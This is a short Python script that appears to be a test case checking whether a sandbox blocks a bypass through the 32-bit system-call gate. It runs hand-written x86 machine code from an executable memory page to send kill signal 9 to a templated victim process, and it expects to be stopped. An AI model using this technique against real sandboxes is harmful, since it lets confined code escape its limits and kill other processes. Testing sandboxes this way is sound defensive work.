"""Run machine code of its own: system calls by the gate of 32-bit programs, which have other numbers (37 kills)."""
# earns: 0
# says: crashed its process (SIGSYS) | crashed its process (SIGSEGV) | crashed its process (SIGILL) | Permission denied

import ctypes
import mmap
import platform

VICTIM = int("@VICTIM@").to_bytes(4, "little")
CODE = (
    b"\x53\xb8\x25\0\0\0\xbb" + VICTIM + b"\xb9\x09\0\0\0\xcd\x80\x5b\xc3"
    if platform.machine() == "x86_64"
    else b"\0" * 8
)
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
